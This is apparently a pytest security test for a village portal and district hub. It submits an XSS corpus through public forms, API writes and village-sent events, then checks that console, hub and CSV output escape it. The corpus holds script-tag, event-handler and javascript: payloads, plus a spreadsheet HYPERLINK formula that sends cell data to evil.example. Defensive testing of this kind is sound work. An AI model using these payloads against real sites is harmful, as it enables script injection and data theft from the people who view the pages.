"""An XSS corpus submitted through every public form and public API write renders escaped in every
console page (and in the public pages that show it), and in the district hub's dashboard when a
village sends it up.

The forms are found by crawling the residents' pages and filled as a browser would (choices with a
real option, text with the payload); the API writes come from the OpenAPI document. Then every
console page an admin can reach by links is read. A page fails when a payload's markup survives:
a raw ``<script>``, an inline event handler, a ``javascript:`` address.
"""

import csv
import io
import itertools
import uuid
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest

from hub import ingest, villages
from hub import users as hub_users
from portal.web import openapi
from tests.conftest import MONDAY_9AM, bearer, login

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</textarea><svg onload=alert(1)>",
    "{{7*7}}",
    "'-alert(1)-'",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
]
# What must never reach a page unescaped.
LIVE_MARKUP = ["<script>alert(1)", "<img src=x onerror", "<svg onload"]
# Text fields get the payload plus this, so minimum lengths (a complaint's 10 characters) pass.
SUFFIX = " laporan warga"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MAX_PAGES = 400  # the crawl's bound
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "poster", "data")


class Page(HTMLParser):
    """What the checks need from an HTML page: links, forms, and every tag's attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.links, self.forms, self.tags = [], [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "a" and attributes.get("href"):
            self.links.append(attributes["href"])
        elif tag == "form":
            self.forms.append({"attrs": attributes, "fields": []})
        elif tag in ("input", "textarea", "select", "option", "button") and self.forms:
            self.forms[-1]["fields"].append((tag, attributes))


def problems(html):
    """How a page lets markup through: raw payload markup, inline handlers, javascript: URLs."""
    found = [f"raw {marker!r}" for marker in LIVE_MARKUP if marker in html]
    for tag, attrs in Page(html).tags:
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...>")
            compact = "".join((value or "").split()).lower()
            if name in URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:text/html")):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def csv_problems(text):
    """CSV cells holding a payload that a spreadsheet would run as a formula."""
    cells = itertools.chain.from_iterable(csv.reader(io.StringIO(text)))
    return [f"formula cell {c[:40]!r}" for c in cells if "HYPERLINK" in c and c.lstrip().startswith(FORMULA_START)]


def filled(form, payload):
    """A form's fields as a browser submits them: hidden values kept, the first choice of each
    radio group and select picked, checkboxes ticked, every text field holding the payload."""
    data, options = {}, {}
    for tag, attrs in form["fields"]:
        name, kind = attrs.get("name"), attrs.get("type", "text")
        if tag == "option" and options.get("select") and attrs.get("value"):
            data.setdefault(options.pop("select"), attrs["value"])
        if not name or kind in ("file", "submit", "button", "image", "reset"):
            continue
        if tag == "select":
            options["select"] = name
        elif kind == "hidden":
            data[name] = attrs.get("value", "")
        elif kind in ("radio", "checkbox"):
            data.setdefault(name, attrs.get("value", "on"))
        elif kind in ("number", "range"):
            data[name] = attrs.get("min") or "1"
        else:
            data[name] = payload + SUFFIX
    return data


def crawl(client, starts, allowed, **kwargs):
    """Every page reachable by links from ``starts`` whose path ``allowed`` accepts (bounded):
    ``{path: response}``."""
    seen, queue = {}, list(starts)
    while queue and len(seen) < MAX_PAGES:
        path = queue.pop(0)
        if path in seen:
            continue
        response = client.get(path, **kwargs)
        seen[path] = response
        if response.mimetype == "text/html":
            for link in Page(response.get_data(as_text=True)).links:
                parts = urlsplit(urljoin(path, link))
                target = parts.path + (f"?{parts.query}" if parts.query else "")
                # The language switch shows the same page again: not a page of its own.
                if not parts.netloc and allowed(parts.path) and "lang=" not in parts.query and target not in seen:
                    queue.append(target)
    assert len(seen) < MAX_PAGES, "the crawl hit its bound: raise MAX_PAGES or narrow what it follows"
    return seen


def public_path(path):
    """Residents' pages worth crawling for forms (not the console, the API, files or the board's
    fragments)."""
    return not path.startswith(("/admin", "/api/", "/static/", "/media/", "/voices/")) and not path.endswith(
        (".pdf", ".png", ".csv")
    )


def console_path(path):
    """Console pages (signing out is a form, never a link, but be sure)."""
    return path.startswith("/admin") and path != "/admin/logout"


def example(schema, payload):
    """A request body for a JSON Schema: the first choice of an enum, the payload for text."""
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    if kind == "object":
        return {name: example(sub, payload) for name, sub in schema.get("properties", {}).items()}
    return {"boolean": True, "integer": 1, "number": 0}.get(kind, payload + SUFFIX)


def bad_pages(pages):
    """Every page of ``pages`` that lets a payload through."""
    bad = []
    for path, response in pages.items():
        if response.mimetype not in ("text/html", "text/csv"):
            continue  # JSON (never rendered as a page: nosniff), files, pictures
        text = response.get_data(as_text=True)
        found = csv_problems(text) if response.mimetype == "text/csv" else problems(text)
        bad += [f"{path}: {problem}" for problem in found]
    return bad


def submit_everything(app, kiosk_token):
    """Send every payload through every public form and public or device API write; returns the
    pages and answers that came back (the refusals quote what was sent, too)."""
    answers = {}
    addresses = (f"192.168.50.{n}" for n in itertools.count(1))  # one per post: no rate limit trips
    resident = app.test_client()
    forms = {}
    for path, response in crawl(resident, ["/", "/kiosk/", "/complaints", "/polls"], public_path).items():
        for form in Page(response.get_data(as_text=True)).forms:
            action = urljoin(path, form["attrs"].get("action") or path)
            if form["attrs"].get("method", "get").lower() == "post":
                forms.setdefault((action, tuple(f[1].get("name") for f in form["fields"])), form)
    assert any(action == "/complaints" for action, _ in forms), "the complaint form was not found"
    for ((action, _), form), payload in itertools.product(forms.items(), PAYLOADS):
        environ = {"REMOTE_ADDR": next(addresses)}
        response = resident.post(action, data=filled(form, payload), environ_base=environ, follow_redirects=True)
        answers[f"POST {action} ({payload})"] = response
    for path, operations in openapi.SPEC["paths"].items():
        operation = operations.get("post", {})
        body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
        if not body or {"session": []} in operation.get("security", []):
            continue  # officials' operations are not residents' input
        headers = bearer(kiosk_token) if operation.get("security") else {}
        for payload in PAYLOADS:
            target = path.replace("{job}", "1").replace("{id}", "x")
            environ = {"REMOTE_ADDR": next(addresses)}
            answer = resident.post(target, json=example(body, payload), headers=headers, environ_base=environ)
            answers[f"POST {path} ({payload})"] = answer
            if answer.is_json and isinstance(answer.get_json(), dict) and "status_url" in answer.get_json():
                status = urlsplit(answer.get_json()["status_url"]).path
                answers[f"GET {status}"] = resident.get(status)
    return answers


def test_public_input_renders_escaped_everywhere(app, kiosk):
    answers = submit_everything(app, kiosk[1])
    admin = app.test_client()
    login(admin, "admin")
    starts = [
        r.rule for r in app.url_map.iter_rules() if console_path(r.rule) and not r.arguments and "GET" in r.methods
    ]
    console = crawl(admin, starts, console_path)
    bad = bad_pages(console) + bad_pages(answers)
    assert not bad, "\n".join(bad)
    # The payloads did reach the console, escaped (else this test would prove nothing).
    shown = "".join(r.get_data(as_text=True) for r in console.values() if r.mimetype == "text/html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "{{7*7}}" in shown and "onerror=alert(1)" in shown


def test_escaping_survives_the_language_switch_and_error_pages(client):
    """What a request itself carries (the query string, the path) is never reflected as markup."""
    bad = []
    for payload in PAYLOADS:
        for path in ("/", "/complaints/track", "/queue", "/admin/login"):
            response = client.get(path, query_string={"lang": payload, "code": payload})
            bad += [f"{path}?…={payload}: {p}" for p in problems(response.get_data(as_text=True))]
        for path in (f"/complaints/{payload}", f"/kiosk/pair/{payload}", f"/services/letters/{payload}"):
            bad += [f"{path}: {p}" for p in problems(client.get(path).get_data(as_text=True))]
    assert not bad, "\n".join(bad)


# The district hub shows what villages send: forwarded complaint texts, kiosk and printer names, poll
# titles. A village's data is as untrusted as a resident's form.


@pytest.fixture
def hub_app(empty_hub):
    """A hub with one district admin and one village that reported the payloads everywhere."""
    with empty_hub.extensions["hub"].store.write() as session:
        village, _ = villages.add(session, "3203112005", "Sukamaju", MONDAY_9AM)
        hub_users.add(session, "kabupaten", "rahasia-123", "admin", MONDAY_9AM)
        ingest.ingest(session, village, {"events": village_events(), "health": village_health()}, MONDAY_9AM)
    return empty_hub


def event(kind, data):
    """One event as a village's outbox sends it."""
    return {"id": uuid.uuid4().hex, "kind": kind, "at": "2026-11-23T01:30:00.000000Z", "data": data}


def village_events():
    """Events whose every text is a payload."""
    events = []
    for n, payload in enumerate(PAYLOADS):
        text = payload + SUFFIX
        events += [
            event("complaint.received", {"complaint": f"c{n}", "category": "other", "forwarded": True, "text": text}),
            event("printer.state", {"kiosk": payload, "state": "out", "detail": text}),
            event("ticket.issued", {"ticket": f"t{n}", "day": "2026-11-23", "service": payload}),
            event(
                "poll.result",
                {
                    "poll": n,
                    "title": text,
                    "kind": "question",
                    "binding": False,
                    "ballots": 1,
                    "options": [{"label": payload, "votes": 1}],
                },
            ),
        ]
    return events


def village_health():
    """A health report naming printers with the payloads."""
    printers = [{"kiosk": payload, "state": "out", "detail": payload} for payload in PAYLOADS]
    return {"version": "<b>1</b>", "disk_free_mb": 1, "disk_total_mb": 2, "clock": {"synchronised": True,
            "offset_s": 0}, "power": {}, "printers": printers, "last_backup": None}  # fmt: skip


def test_what_villages_send_renders_escaped_on_the_hub(hub_app):
    client = hub_app.test_client()
    hub_app.config["WTF_CSRF_ENABLED"] = False  # only for signing in: the pages read are GETs
    assert client.post("/login", data={"username": "kabupaten", "password": "rahasia-123"}).status_code == 303
    starts = [r.rule for r in hub_app.url_map.iter_rules() if not r.arguments and "GET" in r.methods]
    pages = crawl(client, starts, lambda path: not path.startswith(("/static/", "/api/", "/logout")))
    bad = bad_pages(pages)
    assert not bad, "\n".join(bad)
    shown = "".join(r.get_data(as_text=True) for r in pages.values() if r.mimetype == "text/html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown


def test_the_corpus_is_live_markup_when_unescaped():
    """The checks catch the payloads when nothing escapes them (a check that never fires proves nothing)."""
    for payload in PAYLOADS[:4]:
        assert problems(f"<p>{payload}</p>") or problems(f'<a href="{payload}">x</a>'), payload
    assert csv_problems('name\n"=HYPERLINK(""http://evil.example"",""x"")"\n')
